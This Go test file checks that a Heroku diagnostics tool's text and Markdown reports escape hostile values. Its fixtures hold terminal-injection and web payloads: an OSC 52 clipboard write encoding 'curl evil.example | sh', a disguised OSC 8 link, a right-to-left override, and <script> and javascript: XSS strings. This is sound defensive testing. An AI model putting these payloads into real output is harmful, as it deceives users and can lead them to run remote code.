package report

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/heroku-checkup/heroku-checkup/internal/golden"
)

// Hostile values, as they reach a report from outside: a log line, the
// Platform API (hostnames, dyno names, release descriptions, ACM reasons),
// Postgres query text.
const (
	osc52    = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"        // writes the clipboard
	osc8     = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\" // a link that shows another text
	csi      = "\x1b[2J\x1b[1;32m"                                     // clears the screen, paints green
	c1CSI    = "\u009b2J"                                              // the same, as an 8-bit control
	rlo      = "\u202egnp.exe"                                         // shown reversed
	cr       = "ok\r✖ OVERWRITTEN"                                     // overwrites its own line
	badUTF8  = "caf\xe9 \xff\xfe"
	newline  = "shop.acme.com\n# Everything is fine"
	script   = "<script>alert(document.cookie)</script>"
	jsLink   = "[click here](javascript:alert(1))"
	autolink = "<javascript:alert(1)>"
)

func hostileReport() Report {
	fs := []Finding{
		{Check: "platform.releases", Category: CategoryPlatform, App: "acme-prod", Subject: "v42 " + osc52, Status: StatusWarning, Code: "RELEASE_FAILED",
			Summary: "release v42 failed: " + script + " " + jsLink, Detail: "description: " + osc8 + " " + rlo,
			Remedy: "heroku releases:info v42 -a acme-prod " + csi, Docs: "javascript:alert(1)",
			Data: map[string]any{"description": script + osc52 + c1CSI, "user": "- not a list"}},
		{Check: "dns.target", Category: CategoryDNS, App: "acme-prod", Subject: newline, Status: StatusCritical, Code: "DNS_NXDOMAIN",
			Summary: "1. " + newline + " does not exist " + autolink, Detail: cr, Remedy: "Set " + newline + " CNAME x | y",
			Docs: "https://devcenter.heroku.com/articles/custom-domains"},
		{Check: "logs.codes", Category: CategoryLogs, App: "acme-prod", Subject: "web.1" + c1CSI, Status: StatusUnknown, Code: "TIMEOUT",
			Summary: "- " + badUTF8 + " " + csi + "done", Data: map[string]any{"path": badUTF8, "line": "\t\r\n"}},
		{Check: "postgres.activity", Category: CategoryPostgres, App: "acme-prod", Subject: "pid 7", Status: StatusOK,
			Summary: "query " + "SELECT '" + osc52 + "'"},
	}
	r := New(Meta{Version: "1.2.3", GeneratedAt: genTime, Apps: []string{"acme-prod"}, Duration: time.Second}, fs)
	r.Sections = []Section{
		{Title: "Domains " + csi, Header: []string{"Domain", "Verdict"}, Rows: [][]string{{newline, "warning " + rlo}, {"a|b", script}}},
		{Title: "dig", Text: "shop.acme.com.\t300\tIN\tTXT\t\"" + osc52 + "\"\n" + cr + "\n"},
	}
	r.Notes = []string{"note " + cr}
	r.Timelines = []Timeline{hostileTimeline()}
	// A baseline is a file from outside too.
	r.Baseline = &BaselineInfo{GeneratedAt: genTime.Add(-24 * time.Hour), Version: "0.9 " + osc52}
	for i := range r.Checks {
		if r.Checks[i].Code == "DNS_NXDOMAIN" {
			r.Checks[i].Change = ChangeNew
		}
	}
	return r
}

// TestHostileValuesGolden: the text and Markdown reports of hostile values,
// as a reader gets them.
func TestHostileValuesGolden(t *testing.T) {
	for _, c := range []struct {
		name string
		opts RenderOptions
	}{
		{"report.hostile.txt.golden", RenderOptions{Format: FormatText}},
		{"report.hostile.color.txt.golden", RenderOptions{Format: FormatText, Color: true}},
		{"report.hostile.md.golden", RenderOptions{Format: FormatMarkdown}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Render(&buf, hostileReport(), c.opts); err != nil {
				t.Fatal(err)
			}
			golden.Check(t, c.name, buf.Bytes())
		})
	}
}

// ourColour is the only escape sequence a coloured text report may hold.
var ourColour = regexp.MustCompile(`\x1b\[[0-9;]*m`)

func TestHostileValuesReachNoTerminal(t *testing.T) {
	for _, opts := range []RenderOptions{{Format: FormatText}, {Format: FormatText, Color: true}, {Format: FormatMarkdown}} {
		var buf bytes.Buffer
		if err := Render(&buf, hostileReport(), opts); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if opts.Color {
			out = ourColour.ReplaceAllString(out, "")
		}
		if !utf8.ValidString(out) {
			t.Errorf("%s: invalid UTF-8 reaches the reader", opts.Format)
		}
		for i, r := range out {
			if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || hidden(r) {
				t.Errorf("%s: control %U at byte %d: %q", opts.Format, r, i, out[max(0, i-20):min(len(out), i+20)])
				break
			}
		}
		// A newline inside a value never starts a line of its own.
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimLeft(line, " │|"), "# Everything is fine") {
				t.Errorf("%s: a value's newline split a line: %q", opts.Format, line)
			}
		}
	}
}

func TestHostileMarkdownIsText(t *testing.T) {
	var buf bytes.Buffer
	if err := Render(&buf, hostileReport(), RenderOptions{Format: FormatMarkdown}); err != nil {
		t.Fatal(err)
	}
	md := buf.String()
	for _, bad := range []string{"<script", "<javascript:", "Docs: <javascript"} {
		if strings.Contains(md, bad) {
			t.Errorf("raw %q in the Markdown report", bad)
		}
	}
	// A link needs [text](url) with neither bracket escaped.
	if link := regexp.MustCompile(`(^|[^\\])\[[^\]]*[^\\]\]\(`); link.MatchString(md) {
		t.Errorf("a link from a value: %q", link.FindString(md))
	}
	// Only the report's own headings are headings, and no value opens a
	// list, a quote or a table row of its own.
	heading := regexp.MustCompile(`^(# heroku-checkup report|## |### (✖|\?|!|i) |### v[0-9]+ · )`)
	for _, line := range strings.Split(md, "\n") {
		switch {
		case strings.HasPrefix(line, "#") && !heading.MatchString(line):
			t.Errorf("a heading from a value: %q", line)
		case strings.HasPrefix(line, "- ") || strings.HasPrefix(line, "1. "):
			t.Errorf("a list from a value: %q", line)
		}
	}
	// Table rows keep their cells: a | inside a value is escaped.
	for _, line := range strings.Split(md, "\n") {
		if strings.HasPrefix(line, "| ") && strings.Contains(line, "a|b") {
			t.Errorf("an unescaped | in a cell: %q", line)
		}
	}
}

// TestJSONKeepsExactValues: JSON is for programs, and its encoding is
// escaping enough: every value comes back exactly (invalid UTF-8 as JSON
// has it, U+FFFD).
func TestJSONKeepsExactValues(t *testing.T) {
	var buf bytes.Buffer
	if err := Render(&buf, hostileReport(), RenderOptions{Format: FormatJSON}); err != nil {
		t.Fatal(err)
	}
	back, err := DecodeJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	want := hostileReport()
	asJSON := func(s string) string { return string([]rune(s)) } // each invalid byte is U+FFFD
	for i, f := range want.Checks {
		g := back.Checks[i]
		if g.Subject != f.Subject || g.Summary != asJSON(f.Summary) || g.Detail != f.Detail || g.Remedy != f.Remedy || g.Docs != f.Docs {
			t.Errorf("check %d came back as %q / %q / %q / %q", i, g.Subject, g.Summary, g.Detail, g.Remedy)
		}
		if f.Code == "RELEASE_FAILED" && g.Data["description"] != script+osc52+c1CSI {
			t.Errorf("data: %q", g.Data["description"])
		}
	}
}

func TestLine(t *testing.T) {
	cases := map[string]string{
		"plain":               "plain",
		"café ✓ 日本":           "café ✓ 日本",
		"a\nb\r\tc":           `a\nb\r\tc`,
		osc52:                 `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
		rlo:                   `\u202egnp.exe`,
		c1CSI:                 `\u009b2J`,
		"\xff\xfe":            `\xff\xfe`,
		"\x7f\x00":            `\x7f\x00`,
		"zero\u200bwidth":     `zero\u200bwidth`,
		"line\u2028separator": `line\u2028separator`,
	}
	for in, want := range cases {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
		if Line(Line(in)) != Line(in) {
			t.Errorf("Line is not idempotent on %q", in)
		}
	}
	if got := Lines("a\tb\n\x1bc\r\n"); got != "a\tb\n\\x1bc\\r\n" {
		t.Errorf("Lines: %q", got)
	}
	if got := markdownBlock("1. no list"); got != `1\. no list` {
		t.Errorf("markdownBlock: %q", got)
	}
	if got := markdownLink("https://devcenter.heroku.com/articles/x"); got != "<https://devcenter.heroku.com/articles/x>" {
		t.Errorf("markdownLink: %q", got)
	}
	if got := markdownLink("javascript:alert(1)"); got != "javascript:alert(1)" {
		t.Errorf("markdownLink of a javascript: URL: %q", got)
	}
	if got := HTMLText(script + osc52); strings.Contains(got, "<") || strings.Contains(got, "\x1b") {
		t.Errorf("HTMLText: %q", got)
	}
}
